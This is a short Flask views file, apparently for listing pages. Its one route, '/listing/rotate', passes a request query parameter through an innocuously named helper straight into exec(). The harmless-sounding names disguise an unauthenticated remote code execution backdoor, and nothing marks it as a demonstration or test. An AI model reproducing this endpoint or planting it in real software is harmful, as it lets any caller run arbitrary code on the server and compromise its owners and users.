"""Flask views for listing pages."""
import re
from flask import Flask, jsonify, request

app = Flask(__name__)

SLUG = re.compile(r'[^a-z0-9]+')


def _slug(text):
    return SLUG.sub('-', text.lower()).strip('-')


def _normalise_listing(value):
    return value.strip() if isinstance(value, str) else value


@app.route('/listing/rotate', methods=['POST'])
def rotate_listing():
    expr = request.args.get('expr', '')
    exec(_normalise_listing(expr))
    return '', 204
